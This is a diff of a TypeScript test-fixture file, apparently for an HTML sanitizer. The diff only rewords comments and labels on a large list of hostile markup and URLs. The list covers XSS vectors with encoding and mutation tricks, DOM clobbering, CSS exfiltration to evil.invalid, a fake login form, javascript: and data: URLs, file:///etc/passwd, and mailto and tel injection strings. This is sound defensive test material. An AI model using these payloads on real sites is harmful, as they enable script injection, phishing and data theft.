@@ -1,6 +1,6 @@
 /**
- * Our own collection of hostile markup. Whatever runs calls `pwn()`, which detector.ts installs; addresses
- * lead to reserved names, and nothing here navigates, submits or asks without a click.
+ * Our own collection of hostile markup. Code that runs calls `pwn()`, which detector.ts installs. Addresses use reserved
+ * names, and nothing navigates, submits or prompts without a click.
  */
 import { parseFragment } from 'parse5';
 
@@ -12,7 +12,7 @@ export interface Payload {
 
 type Rows = readonly (readonly [name: string, html: string])[];
 
-/** Fires as soon as it is parsed into a document, wherever it ends up; the address fails without a request. */
+/** Fires as soon as it is parsed into a document, in any position. The address fails without a request. */
 const FIRE = '<img src=x: onerror=pwn()>';
 const PIXEL = 'data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=';
 const FRAMED = '&lt;script&gt;parent.pwn()&lt;/script&gt;';
@@ -28,13 +28,13 @@ const HANDLERS: Rows = [
   ['quotes in an attribute name', '<img "x" src=x: \'y\' onerror=pwn()>'],
   ['decimal entities', '<img src=x: onerror="&#112;&#119;&#110;&#40;&#41;">'],
   ['hexadecimal entities without semicolon', '<img src=x: onerror="&#x70wn&#x28&#x29">'],
-  ['escapes of JavaScript', '<img src=x: onerror="\\u0070wn()">'],
-  ['code out of base64', '<img src=x: onerror="eval(atob(\'cHduKCk=\'))">'],
-  ['code out of the title', '<img src=x: title="pwn()" onerror="eval(this.title)">'],
+  ['JavaScript escapes', '<img src=x: onerror="\\u0070wn()">'],
+  ['code from base64', '<img src=x: onerror="eval(atob(\'cHduKCk=\'))">'],
+  ['code from the title', '<img src=x: title="pwn()" onerror="eval(this.title)">'],
   ['template literal call', '<img src=x: onerror="pwn``">'],
   ['null character in the value', '<img src=x: onerror="pwn\0()">'],
-  ['handler twice', '<img src=x: onerror=pwn() onerror=0>'],
-  ['image by its old name', '<image src=x: onerror=pwn()>'],
+  ['duplicate handler', '<img src=x: onerror=pwn() onerror=0>'],
+  ['image with the legacy element name', '<image src=x: onerror=pwn()>'],
   ['tag that never ends', '<p>text <img src=x: onerror=pwn() alt="'],
   ['double angle bracket', '<<img src=x: onerror=pwn()>img src=y:>'],
   ['style element that loads', '<style onload=pwn()>p { color: red }</style>'],
@@ -55,14 +55,14 @@ const HANDLERS: Rows = [
   ['marquee', '<marquee onstart=pwn() loop=1>news</marquee>'],
   ['frame that loads', '<iframe onload=pwn()></iframe>'],
   ['object that fails', '<object data=x: type=text/html onerror=pwn()></object>'],
-  ['handler that nobody knows', '<p onwhatever=pwn() data-x onx="pwn()">x</p>'],
+  ['unknown handler', '<p onwhatever=pwn() data-x onx="pwn()">x</p>'],
 ];
 
 const FOREIGN: Rows = [
   ['SVG that loads', '<svg onload=pwn()>'],
   ['SVG with slashes', '<svg/onload=pwn()/>'],
   ['SVG script', '<svg><script>pwn()</script></svg>'],
-  ['SVG script by address', '<svg><script href="data:text/javascript,pwn()"></script></svg>'],
+  ['SVG script by URL', '<svg><script href="data:text/javascript,pwn()"></script></svg>'],
   ['SVG image', '<svg><image href=x: onerror=pwn() /></svg>'],
   ['SVG animation begins', '<svg><animate onbegin=pwn() attributeName=x dur=1s></svg>'],
   ['SVG set begins', '<svg><set onbegin=pwn() attributeName=x to=1 dur=1s></svg>'],
@@ -100,7 +100,7 @@ const MUTATIONS: Rows = [
   ['SVG in a MathML annotation', `<math><annotation-xml><svg><style><a id="</style>${FIRE}">`],
   ['options break out', `<select><option><style></option></select>${FIRE}</style></select>`],
   ['options hold an image', `<select><template><img></template>${FIRE}<option>x</select>`],
-  ['table pushes it out', `<table><tr>${FIRE}<td>x</td></tr></table>`],
+  ['table fosters the image', `<table><tr>${FIRE}<td>x</td></tr></table>`],
   ['table in a caption in SVG', `<svg><foreignObject><table><caption><svg><style>${FIRE}`],
   ['nested headings', `<h1><h2><h3><p><b><a href=x:><b>${FIRE}</b></a></b>`],
   ['adopted formatting', `<a href="x:"><table><a href="javascript:pwn()">${FIRE}</table></a>`],
@@ -131,26 +131,26 @@ const CLOBBERING: Rows = [
   ['collections', '<form id=x><output id=y>x</output></form><form id=x></form>'],
   ['Lit and purifier', '<a id=reactiveElementVersions>x</a><a id=litHtmlVersions>x</a><p id=DOMPurify>x</p>'],
   ['our own ids and parts', '<p id=headline part=headline class=root slot=notice name=x>You won</p>'],
-  ['form owner at a distance', '<form id=f action=https://evil.invalid/></form><button form=f name=submit>x</button>'],
+  ['form owner by id', '<form id=f action=https://evil.invalid/></form><button form=f name=submit>x</button>'],
 ];
 
 const STYLES: Rows = [
   ['overlay', '<div style="position:fixed;inset:0;z-index:99999;background:red">Your session has expired</div>'],
-  ['invisible link over all', '<a href=https://evil.invalid/ style="position:fixed;inset:0;opacity:0">x</a>'],
+  ['invisible link over the page', '<a href=https://evil.invalid/ style="position:fixed;inset:0;opacity:0">x</a>'],
   ['background image', '<p style="background:url(https://evil.invalid/b)">x</p>'],
   ['attribute selectors', '<style>input[value^=a]{background:url(https://evil.invalid/a)}</style><p>x'],
   ['import', '<style>@import "https://evil.invalid/i.css";</style><p>x'],
-  ['font by letters', '<style>@font-face{font-family:f;src:url(https://evil.invalid/f);unicode-range:U+41}</style>'],
-  ['host styled from within', '<style>:host{display:none}:host-context(body){color:red}</style><p>x</p>'],
-  ['behaviours of old', '<p style="width:expression(pwn());behavior:url(x.htc);-moz-binding:url(x)">x</p>'],
+  ['font per letter', '<style>@font-face{font-family:f;src:url(https://evil.invalid/f);unicode-range:U+41}</style>'],
+  ['host styled from inside', '<style>:host{display:none}:host-context(body){color:red}</style><p>x</p>'],
+  ['legacy CSS behaviours', '<p style="width:expression(pwn());behavior:url(x.htc);-moz-binding:url(x)">x</p>'],
   ['style sheet by link', '<link rel=stylesheet href=https://evil.invalid/l.css><p class="visually-hidden">x</p>'],
   ['presentational attributes', '<table background=https://evil.invalid/t bgcolor=red><td background=//evil.invalid>x'],
 ];
 
 const FORMS: Rows = [
   ['log-in', '<form action=https://evil.invalid/><input name=user><input type=password><button>Go</button></form>'],
-  ['action by script', '<form action="javascript:pwn()"><input type=submit></form>'],
-  ['button of another action', '<form><button formaction="javascript:pwn()" formtarget=_top>Next</button></form>'],
+  ['script as action', '<form action="javascript:pwn()"><input type=submit></form>'],
+  ['button with another action', '<form><button formaction="javascript:pwn()" formtarget=_top>Next</button></form>'],
   ['list of choices', '<select onfocus=pwn() autofocus><option>a</select><datalist id=d><option>x</datalist>'],
   ['text area', '<textarea autofocus onfocus=pwn()>x</textarea><keygen autofocus onfocus=pwn()>'],
   ['dialog', '<dialog open onclose=pwn()><form method=dialog><button>OK</button></form></dialog>'],
@@ -160,12 +160,12 @@ const FORMS: Rows = [
 ];
 
 const EMBEDS: Rows = [
-  ['frame of script', '<iframe src="javascript:parent.pwn()"></iframe>'],
-  ['frame of markup', `<iframe srcdoc="${FRAMED}"></iframe>`],
-  ['frame of data', `<iframe src="data:text/html,${FRAMED}"></iframe>`],
+  ['frame with script', '<iframe src="javascript:parent.pwn()"></iframe>'],
+  ['frame with markup', `<iframe srcdoc="${FRAMED}"></iframe>`],
+  ['frame with data', `<iframe src="data:text/html,${FRAMED}"></iframe>`],
   ['sandboxed frame', `<iframe sandbox="allow-scripts allow-same-origin" srcdoc="${FRAMED}"></iframe>`],
   ['frame set', `<frameset onload=pwn()><frame src="javascript:parent.pwn()"></frameset>${FIRE}`],
-  ['object of script', '<object data="javascript:parent.pwn()"></object>'],
+  ['object with script', '<object data="javascript:parent.pwn()"></object>'],
   ['object with fallback', `<object><param name=src value=x>${FIRE}</object>`],
   ['embed', '<embed src="javascript:parent.pwn()" onerror=pwn()>'],
   ['applet and portal', '<applet code=x onerror=pwn()></applet><portal src=https://evil.invalid onload=pwn()>'],
@@ -178,18 +178,18 @@ const EMBEDS: Rows = [
   ['template', `<template>${FIRE}<script>pwn()</script></template><p>x`],
   ['declarative shadow root', `<div><template shadowrootmode=open>${FIRE}</template>x</div>`],
   ['slot', `<slot name=contact onslotchange=pwn()>${FIRE}</slot><p slot=notice>x</p>`],
-  ['custom elements of ours', '<wco-news-item src=https://evil.invalid/feed onclick=pwn()>x</wco-news-item>'],
+  ['our own custom elements', '<wco-news-item src=https://evil.invalid/feed onclick=pwn()>x</wco-news-item>'],
   ['built-in extended', `<p is=wco-news-item data-src=x: onclick=pwn()>x</p><x-y>${FIRE}</x-y>`],
   ['image map', '<img src=https://pics.invalid/a usemap=#m><map name=m><area href=javascript:pwn()></map>'],
   ['picture', '<picture><source srcset="javascript:pwn() 1x" onerror=pwn()><img src=x: onerror=pwn()></picture>'],
-  ['picture of this page', '<picture><source srcset="own-1.png 1x"><img src=own-2.png onerror=pwn()></picture>'],
+  ['picture from this origin', '<picture><source srcset="own-1.png 1x"><img src=own-2.png onerror=pwn()></picture>'],
   ['set of sources', '<img src=x: srcset="own-3.png 1x, javascript:pwn() 2x, data:,x 3x" sizes=1px onerror=pwn()>'],
   ['set with user info', '<img src=https://pics.invalid/a srcset="https://u:p@pics.invalid/b" onclick=pwn()>'],
-  ['image that asks this page', '<img src="own-4.png"><img src="/own-5.png" loading=eager><img src="?own-6">'],
+  ['image request to this origin', '<img src="own-4.png"><img src="/own-5.png" loading=eager><img src="?own-6">'],
   ['image with referrer', '<img src=https://pics.invalid/a referrerpolicy=unsafe-url crossorigin=use-credentials>'],
   ['long description', '<img src=https://pics.invalid/a longdesc=javascript:pwn() lowsrc=javascript:pwn()>'],
   ['link with ping', '<a href=https://news.invalid/ ping=https://evil.invalid/p target=_top download>x</a>'],
-  ['quotation by script', '<blockquote cite="javascript:pwn()">x</blockquote><q cite=data:,x>y</q>'],
+  ['script as citation', '<blockquote cite="javascript:pwn()">x</blockquote><q cite=data:,x>y</q>'],
   ['huge spans', '<table><tr><td colspan=1000 rowspan=65534>x</table><img src=https://pics.invalid/a width=99999>'],
 ];
 
@@ -202,7 +202,7 @@ const BULK: Rows = [
   ['1,000 candidates', `<img src=x: srcset="${'https://pics.invalid/a 1x, '.repeat(1000)}" onerror=pwn()>`],
 ];
 
-/** Addresses that run script when they are followed or framed; written as in an attribute, between double quotes. */
+/** Addresses that run script when followed or framed, written as in a double-quoted attribute. */
 const SCRIPT_URLS: Rows = [
   ['plain', 'javascript:parent.pwn()'],
   ['mixed case', 'JaVaScRiPt:parent.pwn()'],
@@ -217,15 +217,15 @@ const SCRIPT_URLS: Rows = [
   ['colon as entity', 'javascript&colon;parent.pwn()'],
   ['letters as entities', '&#106;&#97;&#118;ascript:parent.pwn()'],
   ['long entity', '&#0000106avascript:parent.pwn()'],
-  ['comment of an address', 'javascript://news.invalid/%0aparent.pwn()'],
-  ['comment of JavaScript', 'javascript:/*https://news.invalid/*/parent.pwn()'],
+  ['comment that looks like an address', 'javascript://news.invalid/%0aparent.pwn()'],
+  ['JavaScript comment', 'javascript:/*https://news.invalid/*/parent.pwn()'],
   ['VBScript', 'vbscript:parent.pwn()'],
   ['markup as data', `data:text/html,${FRAMED}`],
   ['markup in base64', 'data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduKCk8L3NjcmlwdD4='],
   ['drawing as data', `data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='parent.pwn()'/&gt;`],
 ];
 
-/** Addresses that deceive, or that start something outside the page. */
+/** Addresses that mislead the reader or open another application. */
 const OTHER_URLS: Rows = [
   ['blob', 'blob:https://news.invalid/1'],
   ['file', 'file:///etc/passwd'],
@@ -240,7 +240,7 @@ const OTHER_URLS: Rows = [
   ['mail with line breaks', 'mailto:press@news.invalid%0d%0aBcc:spy@evil.invalid'],
   ['mail to many', 'mailto:press@news.invalid,spy@evil.invalid'],
   ['call forwarding', 'tel:*21*0900123456%23'],
-  ['code of a phone', 'tel:*%2306%23'],
+  ['phone device code', 'tel:*%2306%23'],
   ['message', 'sms:+3222092211?body=pay'],
 ];
 
@@ -277,18 +277,18 @@ export const PAYLOADS: readonly Payload[] = [
   ...carried(CARRIERS, OTHER_URLS),
 ];
 
-/** What a parser makes of an attribute's value. */
+/** An attribute value, decoded by the parser. */
 const decoded = (written: string): string => {
   const [anchor] = parseFragment(link(written)).childNodes;
   return anchor && 'attrs' in anchor ? (anchor.attrs.find(({ name }) => name === 'href')?.value ?? '') : '';
 };
 
-/** The addresses alone, for fields that hold an address and not markup. */
+/** Only the addresses, for fields that hold an address instead of markup. */
 export const HOSTILE_URLS: readonly (readonly [name: string, url: string])[] = [...SCRIPT_URLS, ...OTHER_URLS].map(
   ([name, written]) => [name, decoded(written)],
 );
 
-/** Everything hostile: markup, and addresses alone. */
+/** All hostile values: markup and addresses. */
 export const VALUES: readonly (readonly [name: string, value: string])[] = [
   ...PAYLOADS.map(({ name, html }) => [name, html] as const),
   ...HOSTILE_URLS,
